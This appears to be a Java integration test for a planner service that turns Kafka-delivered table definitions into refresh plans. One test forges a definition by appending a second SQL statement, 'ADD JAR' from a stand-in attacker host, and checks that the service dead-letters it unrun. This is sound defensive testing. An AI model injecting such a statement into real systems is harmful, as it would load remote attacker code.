package io.mtables.planner;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.mtables.messaging.KafkaLog;
import io.mtables.planner.domain.PlanBook;
import io.mtables.planner.domain.Planner;
import io.mtables.planning.PlannerSettings;
import io.mtables.planning.QueryAnalysis;
import io.mtables.planning.RefreshModeRules;
import io.mtables.schemas.ContractCodec;
import io.mtables.schemas.Contracts;
import io.mtables.schemas.EventHeaders;
import io.mtables.schemas.Topics;
import io.mtables.schemas.catalog.TableDefinition;
import io.mtables.schemas.catalog.TableDefinitionBuilder;
import io.mtables.schemas.catalog.TableDropped;
import io.mtables.testing.kafka.KafkaBroker;
import io.mtables.testing.kafka.KafkaBrokerTestResource;
import io.mtables.testing.kafka.TopicProbe;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.Test;

/**
 * Definitions in, plans out, through the real broker: one plan per definition version, never two.
 */
@QuarkusTest
@QuarkusTestResource(KafkaBrokerTestResource.class)
class PlanningIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private final ContractCodec codec = new ContractCodec();

    @Test
    void everyDefinitionVersionIsPlannedOnceAndADropEndsTheTable() throws Exception {
        String table = "default_catalog.it.t_" + UUID.randomUUID().toString().replace("-", "");
        try (TopicProbe probe = new TopicProbe().tail(Topics.REFRESH_PLANS)) {
            define(
                    probe,
                    table,
                    1,
                    new TableDefinition.Freshness(5, "MINUTE"),
                    TableDefinition.Status.ACTIVE);
            JsonNode first = plan(probe, table);
            define(
                    probe,
                    table,
                    2,
                    new TableDefinition.Freshness(1, "HOUR"),
                    TableDefinition.Status.ACTIVE);
            JsonNode second = plan(probe, table);
            define(
                    probe,
                    table,
                    2,
                    new TableDefinition.Freshness(1, "HOUR"),
                    TableDefinition.Status.ACTIVE);
            define(
                    probe,
                    table,
                    3,
                    new TableDefinition.Freshness(1, "HOUR"),
                    TableDefinition.Status.SUSPENDED);
            JsonNode third = plan(probe, table);
            probe.send(
                    Topics.TABLE_DEFINITIONS,
                    table,
                    codec.encode(
                            Contracts.TABLE_DROPPED_V1,
                            new TableDropped(
                                    table,
                                    4,
                                    TableDefinition.Kind.MATERIALIZED_TABLE,
                                    Instant.now(),
                                    null)),
                    Map.of(EventHeaders.TYPE, Contracts.TABLE_DROPPED_V1.type()));
            JsonNode dropped = plan(probe, table);

            assertThat(first.path("mode").asText())
                    .as(first.path("reasons").toString())
                    .isEqualTo("CONTINUOUS");
            assertThat(first.path("checkpointInterval").asText()).isEqualTo("PT2M30S");
            assertThat(first.path("reasons").get(0).asText())
                    .isEqualTo(
                            "CONTINUOUS because the freshness 5 min is below the threshold 30 min"
                                    + " (materialized-table.refresh-mode.freshness-threshold).");
            assertThat(first.path("changelogMode").asText())
                    .as(first.path("reasons").toString())
                    .isEqualTo("[I,UA]");
            // ds can be NULL (the source does not say NOT NULL): the key is stored as a synthetic
            // one.
            assertThat(first.path("upsertKey").toString())
                    .isEqualTo("{\"columns\":[\"ds\"],\"origin\":\"SYNTHETIC\"}");
            assertThat(second.path("definitionVersion").asLong()).isEqualTo(2);
            assertThat(second.path("mode").asText())
                    .as(second.path("reasons").toString())
                    .isEqualTo("FULL");
            assertThat(second.path("cron").asText()).isEqualTo("0 0 0/1 * * ? *");
            assertThat(third.path("definitionVersion").asLong())
                    .as("the repeated version 2 was not planned again")
                    .isEqualTo(3);
            assertThat(third.path("status").asText()).isEqualTo("SUSPENDED");
            assertThat(dropped.path("status").asText()).isEqualTo("DROPPED");
        }
        assertThat(
                        io.restassured.RestAssured.given()
                                .get("/q/metrics")
                                .then()
                                .statusCode(200)
                                .extract()
                                .asString())
                .containsPattern(
                        "(?m)^mt_plans_total\\{mode=\"CONTINUOUS\",status=\"ACTIVE\"\\} [1-9]");

        PlanBook afterRestart = new PlanBook();
        try (KafkaLog plans =
                new KafkaLog(
                        Topics.REFRESH_PLANS,
                        "test",
                        Map.of("bootstrap.servers", KafkaBroker.bootstrapServers()))) {
            plans.readAll().stream()
                    .filter(r -> table.equals(r.key()))
                    .forEach(
                            r ->
                                    afterRestart.record(
                                            codec.decode(Contracts.REFRESH_PLANNED_V1, r.value())));
        }
        Planner restarted =
                new Planner(
                        afterRestart,
                        PlannerSettings.defaults(),
                        t -> QueryAnalysis.unknown("not asked"));
        assertThat(
                        restarted.onDefined(
                                definition(
                                        table,
                                        3,
                                        new TableDefinition.Freshness(1, "HOUR"),
                                        TableDefinition.Status.SUSPENDED),
                                Instant.now()))
                .as("a restarted planner does not plan a version again")
                .isEmpty();
    }

    /**
     * A definition carrying ddl-service's preview, made with this service's settings over no
     * upstream table, gets that plan written as it is (its reasons say who made it); one made with
     * other settings is planned here.
     */
    @Test
    void aDefinitionsPreviewIsWrittenAsThePlanOnlyWhenMadeWithThisPlannersSettings()
            throws Exception {
        String table = "default_catalog.it.p_" + UUID.randomUUID().toString().replace("-", "");
        TableDefinition first =
                definition(
                        table,
                        1,
                        new TableDefinition.Freshness(5, "MINUTE"),
                        TableDefinition.Status.ACTIVE);
        var previewed =
                RefreshModeRules.plan(
                        first, PlannerSettings.defaults(), previewAnalysis(), Instant.now());
        TableDefinition second =
                definition(
                        table,
                        2,
                        new TableDefinition.Freshness(5, "MINUTE"),
                        TableDefinition.Status.ACTIVE);
        try (TopicProbe probe = new TopicProbe().tail(Topics.REFRESH_PLANS)) {
            send(
                    probe,
                    first.withPreviewedPlan(
                            new TableDefinition.PreviewedPlan(
                                    previewed, Map.of(), PlannerSettings.defaults().toContract())));
            JsonNode taken = plan(probe, table);
            send(
                    probe,
                    second.withPreviewedPlan(
                            new TableDefinition.PreviewedPlan(
                                    RefreshModeRules.plan(
                                            second,
                                            PlannerSettings.defaults(),
                                            previewAnalysis(),
                                            Instant.now()),
                                    Map.of(),
                                    "PlannerSettings[of another planner-service]")));
            JsonNode plannedHere = plan(probe, table);

            assertThat(taken.path("changelogMode").asText()).isEqualTo("[PREVIEWED]");
            assertThat(plannedHere.path("definitionVersion").asLong()).isEqualTo(2);
            assertThat(plannedHere.path("changelogMode").asText()).isEqualTo("[I,UA]");
        }
    }

    /**
     * An analysis Flink would not give this query, so a plan made of it shows where it came from.
     */
    private static QueryAnalysis previewAnalysis() {
        return QueryAnalysis.streamable("[PREVIEWED]");
    }

    /**
     * A definition ddl-service would not have written (its source's statement adds a jar): not
     * planned, so its SQL never reaches Flink here; dead-lettered with the reason.
     */
    @Test
    void aForgedDefinitionIsDeadLetteredAndNotRun() throws Exception {
        String table = "default_catalog.it.t_" + UUID.randomUUID().toString().replace("-", "");
        TableDefinition honest =
                definition(
                        table,
                        1,
                        new TableDefinition.Freshness(5, "MINUTE"),
                        TableDefinition.Status.ACTIVE);
        var source = honest.sources().get(0);
        TableDefinition forged =
                TableDefinitionBuilder.builder(honest)
                        .sources(
                                List.of(
                                        new TableDefinition.SourceTable(
                                                source.table(),
                                                source.kind(),
                                                source.version(),
                                                source.statement()
                                                        + "; ADD JAR"
                                                        + " 'http://attacker.example/evil.jar'",
                                                source.columns(),
                                                source.partitionKeys())))
                        .queryChange(null)
                        .previewedPlan(null)
                        .owner(null)
                        .build();
        try (TopicProbe probe =
                new TopicProbe().tail(Topics.REFRESH_PLANS).tail(Topics.DEAD_LETTERS)) {
            send(probe, forged);
            ConsumerRecord<String, String> dead =
                    probe.await(
                            r -> r.topic().equals(Topics.DEAD_LETTERS) && table.equals(r.key()),
                            Duration.ofSeconds(60));
            assertThat(TopicProbe.header(dead, "dead-letter-reason"))
                    .contains("does not write", "2 statements where there is one", "not run");

            send(probe, honest); // the same version, as ddl-service wrote it: planned
            ConsumerRecord<String, String> planned =
                    probe.await(
                            r -> r.topic().equals(Topics.REFRESH_PLANS) && table.equals(r.key()),
                            Duration.ofSeconds(60));
            assertThat(JSON.readTree(planned.value()).path("definitionVersion").asLong())
                    .isEqualTo(1);
        }
    }

    private void send(TopicProbe probe, TableDefinition definition) {
        probe.send(
                Topics.TABLE_DEFINITIONS,
                definition.table(),
                codec.encode(Contracts.TABLE_DEFINED_V1, definition),
                Map.of(EventHeaders.TYPE, Contracts.TABLE_DEFINED_V1.type()));
    }

    private void define(
            TopicProbe probe,
            String table,
            long version,
            TableDefinition.Freshness freshness,
            TableDefinition.Status status) {
        probe.send(
                Topics.TABLE_DEFINITIONS,
                table,
                codec.encode(
                        Contracts.TABLE_DEFINED_V1, definition(table, version, freshness, status)),
                Map.of(EventHeaders.TYPE, Contracts.TABLE_DEFINED_V1.type()));
    }

    private static JsonNode plan(TopicProbe probe, String table) throws Exception {
        ConsumerRecord<String, String> record =
                probe.await(r -> table.equals(r.key()), Duration.ofSeconds(60));
        assertThat(TopicProbe.header(record, EventHeaders.TYPE))
                .isEqualTo(Contracts.REFRESH_PLANNED_V1.type());
        return JSON.readTree(record.value());
    }

    private static TableDefinition definition(
            String table,
            long version,
            TableDefinition.Freshness freshness,
            TableDefinition.Status status) {
        String source = table + "_src";
        String expanded =
                "SELECT `s`.`ds`, COUNT(*) AS `n` FROM "
                        + quoted(source)
                        + " AS `s` GROUP BY `s`.`ds`";
        return TableDefinitionBuilder.builder()
                .table(table)
                .version(version)
                .kind(TableDefinition.Kind.MATERIALIZED_TABLE)
                .statement("CREATE MATERIALIZED TABLE ...")
                .columns(List.of(new TableDefinition.Column("ds", "STRING", true)))
                .primaryKey(List.of())
                .partitionKeys(List.of())
                .distribution(null)
                .options(Map.of())
                .comment(null)
                .freshness(freshness)
                .refreshMode(TableDefinition.RefreshMode.AUTO)
                .query(
                        new TableDefinition.Query(
                                "SELECT ds, count(*) AS n FROM s GROUP BY ds", expanded))
                .sources(
                        List.of(
                                new TableDefinition.SourceTable(
                                        source,
                                        TableDefinition.Kind.SOURCE_TABLE,
                                        1,
                                        "CREATE TABLE "
                                                + quoted(source)
                                                + " (id BIGINT, ds STRING) WITH ('connector' ="
                                                + " 'datagen', 'number-of-rows' = '10')",
                                        null,
                                        null)))
                .status(status)
                .resumeOptions(Map.of())
                .createdAt(Instant.now())
                .updatedAt(Instant.now())
                .requestId(null)
                .build();
    }

    private static String quoted(String identifier) {
        return "`" + identifier.replace(".", "`.`") + "`";
    }

    /**
     * At its start the service did {@link io.mtables.planning.WarmUp}'s work once (Flink's planner
     * planned its table), and it did not fail.
     */
    @Test
    void flinksPlannerIsWarmedUpOnceAtStart() {
        org.awaitility.Awaitility.await()
                .atMost(Duration.ofMinutes(2))
                .untilAsserted(
                        () ->
                                assertThat(
                                                io.restassured.RestAssured.given()
                                                        .get("/q/metrics")
                                                        .then()
                                                        .statusCode(200)
                                                        .extract()
                                                        .asString())
                                        .containsPattern(
                                                "(?m)^mt_warm_up_seconds_count\\{part=\"planner\",?\\}"
                                                    + " 1\\.0$")
                                        .doesNotContain("mt_warm_up_failures_total"));
    }
}
